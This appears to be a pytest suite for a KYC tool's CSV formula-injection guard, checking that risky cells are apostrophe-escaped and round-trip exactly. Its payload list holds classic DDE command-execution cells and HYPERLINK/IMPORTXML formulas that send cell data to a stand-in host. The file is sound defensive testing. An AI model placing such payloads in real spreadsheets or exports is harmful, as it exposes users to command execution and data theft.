"""T3: a cell that a spreadsheet might run gets an apostrophe, and the very text comes back when it is read again."""

import csv
import io
import re
from datetime import date

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

import kycrule
from kycrule import formulas
from kycrule.engines.duckdb import Engine

SIGNS = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
BEFORE = ["", " ", "   ", '"', "'", "''", "\"'", "\ufeff", "\u200b", "\u00a0", "\u3000", "\u2028", "\x0b", "\x85"]
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example?"&A1,"click")',
    '=IMPORTXML(CONCAT("http://x.example?v=",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "%0A-3+3+cmd|' /C calc'!D2",
    "a;=1+1",
    "a; '\u200b+1",
]
# What a spreadsheet sees of a cell: written down here a second time, by hand.
RUNS = re.compile('^[\\s"\ufeff\u200b-\u200f\u2060\\x00-\\x1f]*[=+\\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]')

ALPHABET = st.sampled_from([*"ab1;,'\"= +-@\t\r\n\uff1d\uff0b\uff0d\uff20\ufeff\u200b\xa0\u3000\x00\x0b\x85\u2028"])
TEXTS = st.text(ALPHABET, max_size=12) | st.text(max_size=12)


@pytest.fixture(scope="module")
def engine():
    made = Engine(threads=1)
    made.execute("CREATE MACRO guarded(cell) AS " + formulas.guarded("cell"))
    made.execute("CREATE MACRO unguarded(cell) AS " + formulas.unguarded("cell"))
    yield made
    made.close()


def on_engine(engine, function, texts):
    # Through the connection: values that are bound need no literals.
    found = engine.connection.execute(f"SELECT list_transform(?, lambda t: {function}(t))", [list(texts)])
    return found.fetchone()[0]


class TestTexts:
    @pytest.mark.parametrize("sign", SIGNS, ids=ascii)
    @pytest.mark.parametrize("before", BEFORE, ids=ascii)
    def test_t3_every_sign_is_guarded_whatever_stands_before_it(self, before, sign):
        text = f"{before}{sign}1"

        assert formulas.guard(text) == "'" + text
        assert formulas.unguard("'" + text) == text
        assert formulas.guard(f"x;{text}") == f"x;'{text}"

    @pytest.mark.parametrize("text", PAYLOADS, ids=ascii)
    def test_t3_no_part_of_a_payload_would_run(self, text):
        assert [part for part in formulas.guard(text).split(";") if RUNS.search(part)] == []
        assert formulas.unguard(formulas.guard(text)) == text

    @pytest.mark.parametrize(
        "text", ["", "O'Hara", "'tis", "2024-01-29", "a=b", "x-y", "'", "''", "a;b", "José", "1+1"]
    )
    def test_t3_what_would_not_run_stays_as_it_is(self, text):
        assert formulas.guard(text) == formulas.unguard(text) == text

    @given(TEXTS)
    @example("'=1")
    @example("';=;'")
    @example("\t'\t=1")
    @settings(max_examples=1000, deadline=None)
    def test_t3_a_guarded_text_never_runs_and_comes_back_exactly(self, text):
        cell = formulas.guard(text)

        assert [part for part in cell.split(";") if RUNS.search(part)] == []
        assert formulas.unguard(cell) == text

    @given(TEXTS)
    @settings(max_examples=500, deadline=None)
    def test_t3_it_comes_back_through_a_csv_file_too(self, text):
        stream = io.StringIO(newline="")
        csv.writer(stream).writerow([formulas.guard(text), "x"])
        stream.seek(0)
        [[cell, _]] = csv.reader(stream)

        assert formulas.unguard(cell) == text


@given(st.lists(TEXTS, min_size=20, max_size=60))
@settings(max_examples=100, deadline=None)
def test_t3_the_engine_guards_as_python_does(engine, texts):
    cells = on_engine(engine, "guarded", texts)

    assert cells == [formulas.guard(text) for text in texts]
    assert on_engine(engine, "unguarded", cells) == texts
    assert on_engine(engine, "unguarded", texts) == [formulas.unguard(text) for text in texts]


IDS = [
    f"{before}{sign}{number}"
    for number, (before, sign) in enumerate(
        (before, sign) for before in ("", "'", '"', "\u200b", "x;") for sign in "=+-@\uff1d"
    )
]


def written(path, rows):
    with path.open("w", encoding="utf-8", newline="") as stream:
        csv.writer(stream).writerows(rows)
    return path


def column(path, name):
    with path.open(encoding="utf-8", newline="") as stream:
        return [row[name] for row in csv.DictReader(stream)]


def exactly(out, table="determinations.parquet", name="account_id"):
    engine = Engine()
    rows = engine.execute(
        f"SELECT {name} FROM read_parquet('{out}/{table}', file_row_number = true) ORDER BY file_row_number"
    )
    engine.close()
    return [value for (value,) in rows]


class TestRuns:
    """A run, and a run of what it wrote."""

    @pytest.fixture(scope="class")
    @staticmethod
    def folder(tmp_path_factory):
        folder = tmp_path_factory.mktemp("runs")
        # As a program writes them that knows nothing of formulas; an apostrophe before one is taken for a guard.
        written(
            folder / "customers.csv",
            [["account_id", "name"], *((formulas.guard(text), formulas.guard(text)) for text in IDS)],
        )
        return folder

    def test_t3_what_a_run_wrote_is_read_again_as_it_was(self, folder):
        first = kycrule.check(folder / "customers.csv", as_of=date(2024, 6, 1), out=folder / "one").out
        cells = column(first / "determinations.csv", "account_id")
        owners = written(folder / "owners.csv", [["account_id", "owner_id"], *((cell, cell) for cell in cells)])
        again = written(folder / "again.csv", [["account_id"], *([cell] for cell in cells)])
        second = kycrule.check(again, owners=owners, as_of=date(2024, 6, 1), out=folder / "two")

        assert exactly(first) == exactly(first, "records/customers.parquet", "name") == IDS
        assert [cell for cell in cells for part in cell.split(";") if RUNS.search(part)] == []
        assert (exactly(second.out), second.quarantined) == (IDS, 0)
        assert exactly(second.out, "records/owners.parquet", "owner_id") == IDS
        assert column(second.out / "determinations.csv", "account_id") == cells

    def test_t3_raw_files_are_written_only_when_asked_for(self, folder):
        out = kycrule.check(folder / "customers.csv", as_of=date(2024, 6, 1), out=folder / "raw", raw_csv=True).out

        assert column(out / "determinations.csv", "account_id") == IDS
        assert '"raw_csv": true' in (out / "manifest.json").read_text("utf-8")

    def test_t3_a_guarded_cell_is_in_its_form_or_not_as_the_text_is(self, folder):
        rows = [
            ["account_id", "name", "phone", "kind"],
            ["a", "'=" + "x" * 1023, "'+49 30 1234", ""],
            ["b", "'=" + "x" * 1024, "", ""],
            ["c", "'=" + "x" * 1023, "'+1", "firm"],
        ]
        result = kycrule.check(written(folder / "forms.csv", rows), as_of=date(2024, 6, 1), out=folder / "forms")

        assert exactly(result.out, "records/customers.parquet", "phone") == ["+49 30 1234"]
        assert column(result.out / "quarantine.csv", "column") == ["name", "phone"]

    def test_t3_json_lines_have_no_guards(self, folder):
        (folder / "customers.jsonl").write_text('{"account_id": "\'=1"}\n{"account_id": "=1"}\n', encoding="utf-8")

        assert exactly(kycrule.check(folder / "customers.jsonl", as_of=date(2024, 6, 1), out=folder / "json").out) == [
            "'=1",
            "=1",
        ]

    def test_t3_a_table_that_is_no_csv_has_no_guards(self, folder):
        texts = ["'=1", "=1", "'=" + "x" * 1023]
        pq.write_table(pa.table({"account_id": texts, "name": texts, "kind": ["", "", "firm"]}), folder / "c.parquet")
        result = kycrule.check(folder / "c.parquet", as_of=date(2024, 6, 1), out=folder / "parquet")

        assert exactly(result.out) == texts[:2]
        assert column(result.out / "quarantine.csv", "code") == ["K918"]

    def test_t3_rows_that_are_read_one_by_one_are_unguarded_as_well(self, folder):
        rows = "".join(f'"\'={place}\rx","\'-{place}\rx"\r\n' for place in range(3))
        (folder / "returns.csv").write_bytes(b"account_id,name\r\n'=a,'-b\r\n" + rows.encode())
        (folder / "owners-of.csv").write_bytes(b"owner_id,account_id\n=o,'=a,,,\n'=o,=a\n")
        result = kycrule.check(
            folder / "returns.csv", owners=folder / "owners-of.csv", as_of=date(2024, 6, 1), out=folder / "returns"
        )

        assert exactly(result.out) == ["=a"]
        assert exactly(result.out, "records/owners.parquet", "owner_id") == ["=o"]
        # An owner that cannot be read leaves the account open that it mentions.
        assert column(result.out / "determinations.csv", "turns_on")[0].count("owners") > 0
